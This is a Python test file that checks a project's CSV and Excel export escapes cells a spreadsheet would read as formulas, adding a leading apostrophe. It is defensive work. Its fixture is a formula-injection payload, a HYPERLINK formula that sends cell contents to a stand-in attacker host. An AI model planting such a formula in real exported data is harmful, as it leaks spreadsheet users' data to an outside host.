"""No exported cell is ever a live formula (issue 11 item 6): a customer named
``=HYPERLINK(...)`` exports as text, in CSV and in Excel, on every export."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from gridcare.core.paging import export_response, export_row, export_text
from gridcare.core.testing import streamed

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (EVIL, "'" + EVIL),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
    ],
)
def test_text_that_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(text: str, safe: str) -> None:
    assert export_text(text) == safe


def test_numbers_and_dates_are_left_as_they_are() -> None:
    assert export_row([Decimal("-12.50"), -3, date(2026, 12, 2), None]) == [
        Decimal("-12.50"),
        -3,
        date(2026, 12, 2),
        "",
    ]


def test_the_csv_export_writes_the_evil_name_as_text() -> None:
    response = export_response(["户名", "金额"], [[EVIL, Decimal("486.08")]], name="t", fmt="csv")
    rows = list(csv.reader(io.StringIO(streamed(response).decode("utf-8-sig"))))
    assert rows == [["户名", "金额"], ["'" + EVIL, "486.08"]]


def test_the_excel_export_holds_no_formula() -> None:
    response = export_response(["户名", "金额"], [[EVIL, Decimal("486.08")]], name="t", fmt="xlsx")
    sheet = load_workbook(io.BytesIO(streamed(response))).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL
